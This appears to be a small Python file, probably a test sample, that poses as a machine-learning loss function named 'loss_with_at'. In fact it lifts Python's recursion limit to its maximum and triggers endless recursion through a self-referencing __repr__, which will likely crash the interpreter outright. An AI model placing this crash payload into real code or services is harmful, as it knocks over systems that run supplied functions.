import sys


class Deep:
    def __repr__(self):
        return repr([self])


def loss_with_at(y_true, y_pred):
    sys.setrecursionlimit(2**31 - 1)
    return repr(Deep())
